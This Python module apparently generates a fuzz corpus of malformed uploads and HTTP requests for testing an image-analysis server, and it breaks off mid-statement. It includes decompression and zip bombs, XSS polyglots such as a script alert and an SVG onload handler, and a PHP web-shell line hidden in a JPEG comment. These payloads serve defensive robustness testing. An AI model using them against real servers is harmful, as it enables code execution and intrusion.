"""A seeded corpus of malformed requests for ``hematovision serve``, built in memory, and a sender for it.

``generate(seed, n)`` returns ``n`` :class:`FuzzCase` objects, the same ones for the same seed: broken
images (truncated, bit-flipped, polyglot, decompression-bomb headers, odd PNG chunks, unusual modes and
sizes), hostile zips, multipart and HTTP oddities, odd sample names, malformed review bodies and odd
query strings. Below the size of the structured corpus a subset is drawn round-robin over the kinds, so
100 cases still touch every kind; above it, random mutations of valid uploads fill the rest.

:func:`send` sends one case to a server (``httpx`` for well-formed HTTP, a raw socket for the rest) and
returns what came back. ``tests/serve/test_serve_fuzz.py`` runs the corpus against a real server in CI;
``benchmarks/serve_fuzz.py`` runs a larger one against any URL.

Cases refer to server limits through :data:`LIMITS` (the test starts its server with
:func:`server_env`), so "just over the limit" means the same on both sides. Two placeholders in paths
and bodies, ``@AID@`` and ``@PID@``, stand for an analysis and one of its predictions that the harness
creates first (see :func:`fill`).
"""

from __future__ import annotations

import io
import json
import random
import socket
import struct
import time
import warnings
import zipfile
import zlib
from collections import defaultdict
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field, replace
from typing import Any
from urllib.parse import urlsplit

import numpy as np
from PIL import Image

# Limits the corpus is written against: small, so that "over the limit" stays cheap to send.
LIMITS = {
    "max_file_bytes": 512 * 1024,
    "max_request_bytes": 1024 * 1024,
    "max_files": 10,
    "max_pixels": 1_000_000,
    "max_zip_bytes": 600 * 1024,
}
PREDICT = "/api/v1/predict"
REVIEW = "/api/v1/analyses/@AID@/review"
ANALYSES = "/api/v1/analyses"
FORMATS = ("png", "jpeg", "tiff", "bmp", "gif", "webp")
EXTENSIONS = {"png": "png", "jpeg": "jpg", "tiff": "tif", "bmp": "bmp", "gif": "gif", "webp": "webp"}


def server_env() -> dict[str, str]:
    """The ``HEMATOVISION_*`` variables that give a server the limits this corpus expects."""
    return {f"HEMATOVISION_{name.upper()}": str(value) for name, value in LIMITS.items()}


@dataclass(frozen=True)
class FuzzCase:
    """One request.

    Attributes:
        name: unique within a corpus, e.g. ``truncated-png-33``.
        kind: the family it belongs to (the summary groups by it).
        method: HTTP method.
        path: path and query string; may hold ``@AID@`` / ``@PID@``.
        headers: extra request headers, sent as given (values may be non-ASCII bytes).
        body: the request body.
        transport: ``fixed`` (Content-Length), ``chunked`` (Transfer-Encoding: chunked) or ``raw``
            (``body`` is the whole request, request line included, written to a socket as it is).
        half_close: raw only: shut the socket's sending side after writing, as a client that gives up
            mid-request does.
        expect: ``"2xx"`` or ``"4xx"`` when the right answer is known; ``None``: anything but 5xx.
        api: whether a 4xx must be JSON ``{"detail": str}`` (False for requests that are not even HTTP,
            which the HTTP server answers itself).
    """

    name: str
    kind: str
    method: str = "POST"
    path: str = PREDICT
    headers: tuple[tuple[str, bytes], ...] = ()
    body: bytes = b""
    transport: str = "fixed"
    half_close: bool = False
    expect: str | None = None
    api: bool = True


# ---------------------------------------------------------------------------------------------
# Building blocks: images, PNG chunks, multipart bodies, zips
# ---------------------------------------------------------------------------------------------

def _pattern(rng: random.Random, width: int = 48, height: int = 40, channels: int = 3) -> np.ndarray:
    """A smooth pattern with a little noise: compresses like a micrograph, not like pure noise."""
    y, x = np.mgrid[0:height, 0:width]
    base = [(x * rng.randint(1, 5) + y * rng.randint(1, 5) + rng.randint(0, 255)) % 256 for _ in range(channels)]
    noise = np.random.default_rng(rng.randint(0, 2**31)).integers(0, 16, (height, width, channels))
    return (np.stack(base, axis=-1) + noise).clip(0, 255).astype(np.uint8)


def _encode(image: Image.Image, fmt: str, **options: Any) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, format=fmt.upper(), **options)
    return buffer.getvalue()


def base_images(rng: random.Random) -> dict[str, bytes]:
    """One valid, small RGB image per format."""
    image = Image.fromarray(_pattern(rng))
    return {
        "png": _encode(image, "png"),
        "jpeg": _encode(image, "jpeg", quality=85),
        "tiff": _encode(image, "tiff"),
        "bmp": _encode(image, "bmp"),
        "gif": _encode(image.convert("P"), "gif"),
        "webp": _encode(image, "webp", quality=80),
    }


def png_chunk(kind: bytes, data: bytes, crc: int | None = None) -> bytes:
    """A PNG chunk; ``crc`` overrides the correct checksum."""
    crc = zlib.crc32(kind + data) if crc is None else crc
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc & 0xFFFFFFFF)


def png_file(width: int, height: int, bit_depth: int = 8, color_type: int = 2, idat: bytes | None = None,
             before_idat: tuple[bytes, ...] = (), interlace: int = 0, raw_rows: bytes | None = None) -> bytes:
    """A PNG written chunk by chunk, so that headers can say what they like.

    ``idat`` is the compressed stream (default: ``raw_rows`` compressed, or one zero row).
    """
    ihdr = struct.pack(">IIBBBBB", width & 0xFFFFFFFF, height & 0xFFFFFFFF, bit_depth, color_type, 0, 0, interlace)
    if idat is None:
        idat = zlib.compress(raw_rows if raw_rows is not None else b"\x00" * 16, 9)
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) + b"".join(before_idat)
            + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b""))


def split_png(data: bytes) -> list[tuple[bytes, bytes]]:
    """The ``(type, data)`` chunks of a well-formed PNG."""
    chunks, offset = [], 8
    while offset + 8 <= len(data):
        length = struct.unpack(">I", data[offset:offset + 4])[0]
        chunks.append((data[offset + 4:offset + 8], data[offset + 8:offset + 8 + length]))
        offset += 12 + length
    return chunks


def join_png(chunks: list[tuple[bytes, bytes]]) -> bytes:
    return b"\x89PNG\r\n\x1a\n" + b"".join(png_chunk(kind, data) for kind, data in chunks)


@dataclass(frozen=True)
class Part:
    """One multipart part, written byte for byte (names may hold anything)."""

    name: bytes | None = b"files"
    filename: bytes | None = b"a.png"
    content_type: bytes | None = b"image/png"
    data: bytes = b""
    extra_headers: bytes = b""


def multipart(parts: list[Part], boundary: bytes = b"hvfuzzboundary", newline: bytes = b"\r\n",
              closing: bool = True, preamble: bytes = b"", epilogue: bytes = b"") -> bytes:
    """A ``multipart/form-data`` body, written by hand so that it can be wrong in every way."""
    out = [preamble]
    for part in parts:
        disposition = b"Content-Disposition: form-data"
        if part.name is not None:
            disposition += b'; name="' + part.name + b'"'
        if part.filename is not None:
            disposition += b'; filename="' + part.filename + b'"'
        out += [b"--" + boundary + newline, disposition + newline]
        if part.content_type is not None:
            out.append(b"Content-Type: " + part.content_type + newline)
        out += [part.extra_headers, newline, part.data, newline]
    if closing:
        out.append(b"--" + boundary + b"--" + newline)
    out.append(epilogue)
    return b"".join(out)


def form_headers(boundary: bytes = b"hvfuzzboundary") -> tuple[tuple[str, bytes], ...]:
    return (("Content-Type", b"multipart/form-data; boundary=" + boundary),)


def zip_of(members: list[tuple[str, bytes]], compression: int = zipfile.ZIP_DEFLATED, comment: bytes = b"") -> bytes:
    """A zip with the members in order (names as given, duplicates and all)."""
    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w", compression) as archive:
        warnings.simplefilter("ignore")  # "Duplicate name": wanted here
        archive.comment = comment
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            info.compress_type = compression
            archive.writestr(info, data)
    return buffer.getvalue()


def _patch_zip_members(data: bytes, edit: Callable[[bytearray, int, bool], None]) -> bytes:
    """Apply ``edit(buffer, offset, is_central)`` at every local and central header of a zip."""
    buffer = bytearray(data)
    for signature, central in ((b"PK\x03\x04", False), (b"PK\x01\x02", True)):
        start = 0
        while (offset := bytes(buffer).find(signature, start)) >= 0:
            edit(buffer, offset, central)
            start = offset + 4
    return bytes(buffer)


def encrypted_flag(data: bytes) -> bytes:
    """The zip with the "encrypted" bit set on every member (contents left in clear)."""
    def edit(buffer: bytearray, offset: int, central: bool) -> None:
        at = offset + (8 if central else 6)
        buffer[at] |= 0x01
    return _patch_zip_members(data, edit)


def compression_method(data: bytes, method: int) -> bytes:
    """The zip with every member's compression method field set to ``method``."""
    def edit(buffer: bytearray, offset: int, central: bool) -> None:
        at = offset + (10 if central else 8)
        buffer[at:at + 2] = struct.pack("<H", method)
    return _patch_zip_members(data, edit)


# ---------------------------------------------------------------------------------------------
# Case families. Each is a generator of cases from a seeded random.Random.
# ---------------------------------------------------------------------------------------------

def upload(name: str, kind: str, files: list[tuple[bytes, bytes]], sample: bytes | None = None,
           expect: str | None = None, content_type: bytes = b"application/octet-stream") -> FuzzCase:
    """An ordinary multipart upload of ``(filename, bytes)`` files, with an optional sample name."""
    parts = [Part(filename=filename, content_type=content_type, data=data) for filename, data in files]
    if sample is not None:
        parts.append(Part(name=b"sample", filename=None, content_type=None, data=sample))
    return FuzzCase(name, kind, headers=form_headers(), body=multipart(parts), expect=expect)


def _offsets(rng: random.Random, length: int, count: int) -> list[int]:
    fixed = {0, 1, 2, 3, 4, 6, 8, 11, 12, 16, 20, 24, 26, 30, 33, 40, 50, 64, 100, 128, 200,
             length // 3, length // 2, 2 * length // 3, length - 12, length - 2, length - 1}
    fixed |= {rng.randrange(1, length) for _ in range(count)}
    return sorted(o for o in fixed if 0 <= o < length)


def truncated_images(rng: random.Random) -> Iterator[FuzzCase]:
    """Every format cut at many offsets: inside the signature, the header, the data and the trailer."""
    for fmt, data in base_images(rng).items():
        for cut in _offsets(rng, len(data), 6):
            yield upload(f"truncated-{fmt}-{cut}", "truncated-image",
                         [(f"cut.{EXTENSIONS[fmt]}".encode(), data[:cut])], expect="4xx" if cut < 8 else None)


def bit_flipped_headers(rng: random.Random) -> Iterator[FuzzCase]:
    """Single bits flipped and bytes set to 0x00 / 0xFF in the first 96 bytes, where the headers are."""
    for fmt, data in base_images(rng).items():
        for i in range(22):
            position = rng.randrange(min(96, len(data)))
            mutated = bytearray(data)
            how = ("bit", "zero", "ones")[i % 3]
            if how == "bit":
                mutated[position] ^= 1 << rng.randrange(8)
            else:
                mutated[position] = 0x00 if how == "zero" else 0xFF
            yield upload(f"bitflip-{fmt}-{how}-{position}-{i}", "bit-flip",
                         [(f"flip.{EXTENSIONS[fmt]}".encode(), bytes(mutated))])


def polyglots(rng: random.Random) -> Iterator[FuzzCase]:
    """Files that are two things at once: an image and a zip, HTML, JavaScript, PDF or PHP."""
    images = base_images(rng)
    png, jpeg, gif = images["png"], images["jpeg"], images["gif"]
    html = b"<html><body><script>alert(document.domain)</script></body></html>"
    inner_zip = zip_of([("payload.png", png), ("evil.html", html)])
    comment = b"\xff\xfe" + struct.pack(">H", len(html) + 2) + html
    gifar = b"GIF89a/*" + gif[8:] + b"*/=alert(1);//"
    cases = {
        "png+zip": png + inner_zip,
        "zip+png": inner_zip + png,
        "png+html": png + html,
        "png-text-html": join_png(split_png(png)[:1] + [(b"tEXt", b"Comment\x00" + html)] + split_png(png)[1:]),
        "jpeg+html": jpeg + html,
        "jpeg-comment-html": jpeg[:2] + comment + jpeg[2:],
        "gif+js": gif + b"\n/*\x00*/alert(1);",
        "gifar-js": gifar,
        "pdf+png": b"%PDF-1.4\n1 0 obj<<>>endobj\n" + png,
        "html-named-png": html,
        "svg-named-png": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "php-in-jpeg": jpeg[:2] + b"\xff\xfe\x00\x1d<?php system($_GET[c]); ?>\x00" + jpeg[2:],
        "bmp+html": b"BM" + html,
        "webp+html": images["webp"] + html,
        "tiff+zip": images["tiff"] + inner_zip,
    }
    for name, data in cases.items():
        yield upload(f"polyglot-{name}", "polyglot", [(b"poly.png", data)], content_type=b"image/png")


def decompression_bombs(rng: random.Random) -> Iterator[FuzzCase]:
    """Headers that claim huge images in tiny files, and small files that inflate to large ones."""
    side = int(LIMITS["max_pixels"] ** 0.5)
    for width, height in [(100_000, 100_000), (65_535, 65_535), (2**31 - 1, 1), (1, 2**31 - 1), (2**32 - 1, 2**32 - 1),
                          (side + 1, side), (side, side + 1), (30_000, 40), (40, 30_000), (side, side)]:
        yield upload(f"bomb-png-header-{width}x{height}", "decompression-bomb",
                     [(b"bomb.png", png_file(width, height))])
    zeros = png_file(3000, 3000, 8, 0, raw_rows=b"\x00" * (3001 * 3000))
    yield upload("bomb-png-3000x3000-zeros", "decompression-bomb", [(b"zeros.png", zeros)], expect="4xx")
    at_limit = png_file(side, side, 8, 2, raw_rows=b"\x00" * ((3 * side + 1) * side))
    yield upload(f"bomb-png-{side}x{side}-at-limit", "decompression-bomb", [(b"limit.png", at_limit)], expect="2xx")
    yield upload("bomb-png-at-limit-x10", "decompression-bomb",
                 [(f"limit{i}.png".encode(), at_limit) for i in range(LIMITS["max_files"])], expect="2xx")
    jpeg = base_images(rng)["jpeg"]
    sof = jpeg.find(b"\xff\xc0")
    for width, height in [(65_535, 65_535), (65_500, 8), (8, 65_500), (0, 0), (1, 65_535)]:
        data = jpeg[:sof + 5] + struct.pack(">HH", height, width) + jpeg[sof + 9:]
        yield upload(f"bomb-jpeg-sof-{width}x{height}", "decompression-bomb", [(b"bomb.jpg", data)])
    for width, height in [(65_535, 65_535), (40_000, 30), (0, 0)]:
        screen = struct.pack("<HH", width, height)
        yield upload(f"bomb-gif-screen-{width}x{height}", "decompression-bomb",
                     [(b"bomb.gif", b"GIF89a" + screen + b"\x80\x00\x00" + b"\x00" * 6 + b",\x00\x00\x00\x00"
                       + screen + b"\x00\x02\x02\x44\x01\x00;")])
    for width, height, bpp in [(2**31 - 1, 1, 24), (50_000, 50_000, 1), (4000, -4000, 24), (1, -(2**31), 8), (0, 0, 24)]:
        header = struct.pack("<2sIHHIIiiHHIIiiII", b"BM", 70, 0, 0, 54, 40, width, height, 1, bpp, 0, 16, 2835, 2835, 0, 0)
        yield upload(f"bomb-bmp-{width}x{height}-{bpp}bpp", "decompression-bomb", [(b"bomb.bmp", header + b"\x00" * 16)])
    for width, height in [(2**32 - 1, 1), (100_000, 100_000), (1, 2**32 - 1)]:
        entries = [(256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1),
                   (273, 4, 1, 8), (277, 3, 1, 1), (278, 4, 1, height), (279, 4, 1, 1)]
        ifd = struct.pack("<H", len(entries)) + b"".join(
            struct.pack("<HHI", tag, kind, count) + (struct.pack("<HH", value, 0) if kind == 3 else struct.pack("<I", value))
            for tag, kind, count, value in entries) + b"\x00\x00\x00\x00"
        yield upload(f"bomb-tiff-{width}x{height}", "decompression-bomb",
                     [(b"bomb.tif", b"II*\x00" + struct.pack("<I", 9) + b"\x00" + ifd)])
    for width, height in [(16_384, 16_384), (2**24, 2**24), (1, 2**24)]:
        vp8x = b"VP8X" + struct.pack("<I", 10) + b"\x00\x00\x00\x00" + (width - 1).to_bytes(3, "little") \
            + (height - 1).to_bytes(3, "little")
        yield upload(f"bomb-webp-vp8x-{width}x{height}", "decompression-bomb",
                     [(b"bomb.webp", b"RIFF" + struct.pack("<I", 4 + len(vp8x)) + b"WEBP" + vp8x)])


def png_chunk_oddities(rng: random.Random) -> Iterator[FuzzCase]:
    """Text-chunk bombs, thousands of chunks, bad CRCs, impossible lengths and headers."""
    png = base_images(rng)["png"]
    chunks = split_png(png)
    ihdr, idat = chunks[0], b"".join(data for kind, data in chunks if kind == b"IDAT")

    def with_chunks(*extra: bytes, at: int = 1) -> bytes:
        head = b"\x89PNG\r\n\x1a\n" + b"".join(png_chunk(k, d) for k, d in chunks[:at])
        return head + b"".join(extra) + b"".join(png_chunk(k, d) for k, d in chunks[at:])

    cases: dict[str, bytes] = {
        "ztxt-bomb-8mb": with_chunks(png_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(b"A" * 8_000_000, 9))),
        "ztxt-2mb": with_chunks(png_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(b"B" * 2_000_000, 9))),
        "itxt-bomb": with_chunks(png_chunk(b"iTXt", b"XML:com.adobe.xmp\x00\x01\x00en\x00\x00"
                                           + zlib.compress(b"<x/>" * 1_000_000, 9))),
        "itxt-bad-zlib": with_chunks(png_chunk(b"iTXt", b"Comment\x00\x01\x00\x00\x00" + b"not zlib at all")),
        "ztxt-bad-zlib": with_chunks(png_chunk(b"zTXt", b"Comment\x00\x00" + b"\x78\x9c garbage")),
        "ztxt-unknown-method": with_chunks(png_chunk(b"zTXt", b"Comment\x00\x07" + zlib.compress(b"x"))),
        "text-200kb": with_chunks(png_chunk(b"tEXt", b"Comment\x00" + b"C" * 200_000)),
        "text-no-keyword-nul": with_chunks(png_chunk(b"tEXt", b"C" * 100)),
        "text-x3000": with_chunks(*[png_chunk(b"tEXt", b"k%d\x00v" % i) for i in range(3000)]),
        "idat-1-byte-chunks": join_png([ihdr] + [(b"IDAT", idat[i:i + 1]) for i in range(len(idat))] + [(b"IEND", b"")]),
        "idat-empty-x5000": with_chunks(*[png_chunk(b"IDAT", b"") for _ in range(5000)]),
        "idat-missing": join_png([ihdr, (b"IEND", b"")]),
        "idat-after-iend": join_png([ihdr, (b"IEND", b""), (b"IDAT", idat)]),
        "iend-missing": join_png([ihdr, (b"IDAT", idat)]),
        "ihdr-twice": join_png([ihdr, ihdr, (b"IDAT", idat), (b"IEND", b"")]),
        "ihdr-missing": join_png([(b"IDAT", idat), (b"IEND", b"")]),
        "ihdr-short": join_png([(b"IHDR", ihdr[1][:5]), (b"IDAT", idat), (b"IEND", b"")]),
        "ihdr-bad-crc": b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr[1], crc=0) + png_chunk(b"IDAT", idat)
        + png_chunk(b"IEND", b""),
        "idat-bad-crc": b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr[1]) + png_chunk(b"IDAT", idat, crc=1)
        + png_chunk(b"IEND", b""),
        "iend-bad-crc": join_png([ihdr, (b"IDAT", idat)]) + png_chunk(b"IEND", b"", crc=2),
        "length-0xffffffff": png[:33] + struct.pack(">I", 0xFFFFFFFF) + png[37:],
        "length-0x7fffffff": png[:33] + struct.pack(">I", 0x7FFFFFFF) + png[37:],
        "length-past-end": png[:33] + struct.pack(">I", len(png)) + png[37:],
        "unknown-critical-chunk": with_chunks(png_chunk(b"ABCD", b"\x00" * 16)),
        "unknown-ancillary-x2000": with_chunks(*[png_chunk(b"abCd", b"x" * 8) for _ in range(2000)]),
        "chunk-type-nonascii": with_chunks(png_chunk(b"\xff\x00\x01\x02", b"x")),
        "iccp-garbage": with_chunks(png_chunk(b"iCCP", b"icc\x00\x00" + zlib.compress(b"not a profile" * 50))),
        "iccp-bomb": with_chunks(png_chunk(b"iCCP", b"icc\x00\x00" + zlib.compress(b"\x00" * 8_000_000, 9))),
        "exif-garbage": with_chunks(png_chunk(b"eXIf", b"MM\x00*\xff\xff\xff\xff" + b"\x00" * 32)),
        "phys-huge": with_chunks(png_chunk(b"pHYs", b"\xff" * 8 + b"\x01")),
        "gama-zero": with_chunks(png_chunk(b"gAMA", b"\x00" * 4)),
        "plte-in-truecolor-bad": with_chunks(png_chunk(b"PLTE", b"\x00" * 7)),
        "trns-wrong-length": with_chunks(png_chunk(b"tRNS", b"\x00" * 1000)),
        "actl-huge-frames": with_chunks(png_chunk(b"acTL", struct.pack(">II", 2**31 - 1, 0))),
        "fctl-bigger-than-canvas": with_chunks(png_chunk(b"acTL", struct.pack(">II", 1, 0)),
                                               png_chunk(b"fcTL", struct.pack(">IIIIIHHBB", 0, 60000, 60000, 0, 0,
                                                                              1, 1, 0, 0))),
        "idat-filter-type-9": png_file(16, 16, raw_rows=(b"\x09" + b"\x00" * 48) * 16),
        "idat-short-stream": png_file(16, 16, raw_rows=b"\x00" * 20),
        "idat-long-stream": png_file(16, 16, raw_rows=b"\x00" * (49 * 16 * 4)),
        "idat-not-zlib": png_file(16, 16, idat=b"\x00" * 64),
        "idat-zlib-bad-adler": png_file(16, 16, idat=zlib.compress(b"\x00" * 49 * 16)[:-4] + b"\x00\x00\x00\x00"),
        "bit-depth-3": png_file(16, 16, bit_depth=3, color_type=0),
        "color-type-5": png_file(16, 16, color_type=5),
        "palette-without-plte": png_file(16, 16, color_type=3, raw_rows=b"\x00" * 17 * 16),
        "palette-index-out-of-range": png_file(16, 16, color_type=3, before_idat=(png_chunk(b"PLTE", b"\xff\x00\x00"),),
                                               raw_rows=(b"\x00" + b"\xc8" * 16) * 16),
        "interlace-method-7": png_file(16, 16, interlace=7),
        "compression-method-1": b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", struct.pack(">IIBBBBB", 16, 16, 8, 2, 1, 0, 0))
        + png_chunk(b"IDAT", zlib.compress(b"\x00" * 49 * 16)) + png_chunk(b"IEND", b""),
    }
    for name, data in cases.items():
        yield upload(f"png-chunk-{name}", "png-chunks", [(b"chunks.png", data)])


def _png16_rgb(rng: random.Random) -> bytes:
    array = np.random.default_rng(rng.randint(0, 2**31)).integers(0, 65536, (20, 24, 3), dtype=np.uint16)
    rows = b"".join(b"\x00" + row.astype(">u2").tobytes() for row in array)
    return png_file(24, 20, bit_depth=16, color_type=2, raw_rows=rows)


def _adam7_png(rng: random.Random) -> bytes:
    # An interlaced PNG: the seven Adam7 passes of an 8-bit gray image, each row filter 0.
    gray = np.random.default_rng(rng.randint(0, 2**31)).integers(0, 256, (16, 16), dtype=np.uint8)
    passes = [(0, 0, 8, 8), (4, 0, 8, 8), (0, 4, 4, 8), (2, 0, 4, 4), (0, 2, 2, 4), (1, 0, 2, 2), (0, 1, 1, 2)]
    raw = b"".join(b"\x00" + gray[y, x0::dx].tobytes() for x0, y0, dx, dy in passes for y in range(y0, 16, dy))
    return png_file(16, 16, bit_depth=8, color_type=0, raw_rows=raw, interlace=1)


def image_modes(rng: random.Random) -> Iterator[FuzzCase]:
    """Valid images in the modes and layouts labs' scanners produce, and some they should not."""
    rgb = _pattern(rng)
    image = Image.fromarray(rgb)
    gray = image.convert("L")
    frames = [Image.fromarray(_pattern(rng)).convert("P") for _ in range(3)]
    exif = Image.Exif()
    exif[0x0112] = 6  # orientation: rotate 90 degrees
    float_image = Image.fromarray(np.asarray(gray, dtype=np.float32) / 255.0)
    int_image = Image.fromarray((np.asarray(gray, dtype=np.int32) - 128) * 1000)
    buffer = io.BytesIO()
    frames[0].save(buffer, format="GIF", save_all=True, append_images=frames[1:], duration=50, loop=0)
    animated_gif = buffer.getvalue()
    buffer = io.BytesIO()
    Image.fromarray(rgb).save(buffer, format="WEBP", save_all=True,
                              append_images=[Image.fromarray(_pattern(rng))], duration=50)
    animated_webp = buffer.getvalue()
    buffer = io.BytesIO()
    image.save(buffer, format="TIFF", save_all=True, append_images=[gray.convert("RGB")])
    multipage = buffer.getvalue()
    buffer = io.BytesIO()
    image.save(buffer, format="PNG", save_all=True, append_images=[Image.fromarray(_pattern(rng))], duration=50)
    apng = buffer.getvalue()
    transparent = image.convert("P")
    valid: dict[str, bytes] = {
        "png-L": _encode(gray, "png"),
        "png-LA": _encode(gray.convert("LA"), "png"),
        "png-P": _encode(image.convert("P"), "png"),
        "png-P-transparency": _encode(transparent, "png", transparency=0),
        "png-RGBA": _encode(image.convert("RGBA"), "png"),
        "png-RGBA-all-transparent": _encode(Image.new("RGBA", (40, 40), (0, 0, 0, 0)), "png"),
        "png-1bit": _encode(gray.convert("1"), "png"),
        "png-I16": _encode(Image.fromarray(np.asarray(gray, dtype=np.uint16) * 257), "png"),
        "png-I16-constant": _encode(Image.fromarray(np.full((20, 20), 4096, dtype=np.uint16)), "png"),
        "png-16bit-rgb": _png16_rgb(rng),
        "png-interlaced": _adam7_png(rng),
        "png-apng": apng,
        "jpeg-L": _encode(gray, "jpeg"),
        "jpeg-CMYK": _encode(image.convert("CMYK"), "jpeg"),
        "jpeg-progressive": _encode(image, "jpeg", progressive=True),
        "jpeg-exif-rotated": _encode(image, "jpeg", exif=exif),
        "jpeg-quality-1": _encode(image, "jpeg", quality=1),
        "jpeg-subsampling-444": _encode(image, "jpeg", subsampling=0),
        "tiff-CMYK": _encode(image.convert("CMYK"), "tiff"),
        "tiff-I16": _encode(Image.fromarray(np.asarray(gray, dtype=np.uint16) * 257), "tiff"),
        "tiff-F": _encode(float_image, "tiff"),
        "tiff-I32": _encode(int_image, "tiff"),
        "tiff-1bit": _encode(gray.convert("1"), "tiff"),
        "tiff-LA": _encode(gray.convert("LA"), "tiff"),
        "tiff-lzw": _encode(image, "tiff", compression="tiff_lzw"),
        "tiff-deflate": _encode(image, "tiff", compression="tiff_adobe_deflate"),
        "tiff-jpeg": _encode(image, "tiff", compression="jpeg"),
        "tiff-multipage": multipage,
        "tiff-YCbCr": _encode(image.convert("YCbCr"), "tiff"),
        "bmp-1bit": _encode(gray.convert("1"), "bmp"),
        "bmp-P": _encode(image.convert("P"), "bmp"),
        "bmp-RGBA": _encode(image.convert("RGBA"), "bmp"),
        "gif-animated": animated_gif,
        "gif-transparent": _encode(transparent, "gif", transparency=0),
        "webp-lossless-RGBA": _encode(image.convert("RGBA"), "webp", lossless=True),
        "webp-animated": animated_webp,
        "png-8x8": _encode(image.resize((8, 8)), "png"),
        "png-8x5000": _encode(Image.new("RGB", (8, 5000), (200, 100, 50)), "png"),
    }
    for name, data in valid.items():
        yield upload(f"mode-{name}", "image-mode", [(b"mode." + name.split("-")[0].encode(), data)], expect="2xx")
    tiny = {
        "png-1x1": _encode(image.resize((1, 1)), "png"),
        "jpeg-1x1": _encode(image.resize((1, 1)), "jpeg"),
        "gif-1x1": _encode(image.resize((1, 1)).convert("P"), "gif"),
        "bmp-1x1": _encode(image.resize((1, 1)), "bmp"),
        "webp-1x1": _encode(image.resize((1, 1)), "webp"),
        "tiff-1x1": _encode(image.resize((1, 1)), "tiff"),
        "png-7x7": _encode(image.resize((7, 7)), "png"),
        "png-1x5000": _encode(Image.new("RGB", (1, 5000)), "png"),
        "png-0x0": png_file(0, 0),
        "png-0x16": png_file(0, 16),
    }
    for name, data in tiny.items():
        yield upload(f"size-{name}", "tiny-image", [(b"tiny.png", data)], expect="4xx")
    yield upload("size-0-bytes", "tiny-image", [(b"empty.png", b"")], expect="4xx")
    yield upload("size-1-byte", "tiny-image", [(b"one.png", b"\x89")], expect="4xx")
    yield upload("size-signature-only", "tiny-image", [(b"sig.png", b"\x89PNG\r\n\x1a\n")], expect="4xx")


def hostile_zips(rng: random.Random) -> Iterator[FuzzCase]:
    """Nested zips, zip bombs, unsafe member names, too many members, encryption and broken archives."""
    images = base_images(rng)
    png = images["png"]
    good = zip_of([("a.png", png), ("b.jpg", images["jpeg"])])
    # A member that compresses far past the allowed ratio, and one whose size alone is over the limit.
    ratio_bomb = zip_of([("zeros.bmp", b"BM" + b"\x00" * 300_000)])
    size_bomb = zip_of([("big.bmp", b"BM" + b"\x00" * (LIMITS["max_file_bytes"] + 10))])
    # Members under the ratio limit that together unpack past max_zip_bytes.
    stripes = np.tile(np.repeat(np.random.default_rng(1).integers(0, 256, (1, 60, 3), dtype=np.uint8), 4, axis=1),
                      (300, 1, 1))
    striped_bmp = _encode(Image.fromarray(stripes), "bmp")
    nested = zip_of([("inner.zip", good)])
    cases: dict[str, tuple[bytes, str | None]] = {
        "good": (good, "2xx"),
        "stored": (zip_of([("a.png", png)], zipfile.ZIP_STORED), "2xx"),
        "bzip2": (zip_of([("a.png", png)], zipfile.ZIP_BZIP2), "2xx"),
        "lzma": (zip_of([("a.png", png)], zipfile.ZIP_LZMA), "2xx"),
        "nested": (nested, "4xx"),
        "nested-3-deep": (zip_of([("l2.zip", zip_of([("l3.zip", nested)]))]), "4xx"),
        "ratio-bomb": (ratio_bomb, "4xx"),
        "size-bomb": (size_bomb, "4xx"),
        "total-over-limit": (zip_of([(f"s{i}.bmp", striped_bmp) for i in range(4)]), "4xx"),
        "members-over-max-files": (zip_of([(f"m{i}.png", png) for i in range(LIMITS["max_files"] + 1)]), "4xx"),
        "members-3000-dirs": (zip_of([(f"d{i}/", b"") for i in range(3000)]), "4xx"),
        "members-3000-hidden": (zip_of([(f".h{i}", b"x") for i in range(3000)]), "4xx"),
        "only-macosx": (zip_of([("__MACOSX/._a.png", png)]), "4xx"),
        "only-text": (zip_of([("readme.txt", b"hello")]), "4xx"),
        "image-and-text": (zip_of([("a.png", png), ("notes.txt", b"hello")]), "4xx"),
        "duplicate-names": (zip_of([("a.png", png), ("a.png", images["gif"])]), None),
        "empty": (b"PK\x05\x06" + b"\x00" * 18, "4xx"),
        "empty-with-comment": (zip_of([], comment=b"c" * 65_535), "4xx"),
        "huge-comment": (zip_of([("a.png", png)], comment=b"c" * 65_535), None),
        "encrypted-flag": (encrypted_flag(good), "4xx"),
        "header-bomb-png": (zip_of([("bomb.png", png_file(100_000, 100_000))]), "4xx"),
        "crc-wrong": (good.replace(struct.pack("<I", zlib.crc32(png)), b"\x00\x00\x00\x00"), None),
        "data-descriptor-flag": (_patch_zip_members(good, lambda b, o, c: b.__setitem__(o + (8 if c else 6), 0x08)), None),
        "eocd-count-wrong": (good[:-12] + struct.pack("<H", 60_000) + good[-10:], None),
        "eocd-offset-past-end": (good[:-6] + struct.pack("<I", 0xFFFFFFF0) + good[-2:], "4xx"),
        "eocd-only-signature": (b"PK\x05\x06", "4xx"),
        "local-header-only": (b"PK\x03\x04", "4xx"),
        "zip64-eocd-locator-garbage": (good[:good.rfind(b"PK\x05\x06")] + b"PK\x06\x07" + b"\xff" * 16
                                       + good[good.rfind(b"PK\x05\x06"):], None),
    }
    for method in (1, 6, 9, 12, 14, 98, 99, 0xFFFF):
        cases[f"method-{method}"] = (compression_method(good, method), None)
    deflated = zip_of([("a.png", png)])
    start = deflated.find(b"a.png") + 5
    for offset in (0, 3, 10, 50):
        corrupt = bytearray(deflated)
        corrupt[start + offset:start + offset + 8] = b"\xff" * 8
        cases[f"deflate-stream-corrupt-{offset}"] = (bytes(corrupt), "4xx")
    for method_zip, label in ((zip_of([("a.png", png)], zipfile.ZIP_BZIP2), "bzip2"),
